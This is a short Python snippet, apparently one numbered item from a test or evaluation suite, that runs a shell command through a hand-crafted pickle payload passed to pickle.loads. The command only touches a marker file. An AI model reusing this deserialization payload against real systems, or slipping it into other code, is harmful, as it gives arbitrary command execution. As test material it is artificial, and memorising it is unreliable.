# e60: gain: a command by pickle
import pickle
pickle.loads(b"cos\nsystem\n(S'touch %s'\ntR." % DROP_FILE.encode())
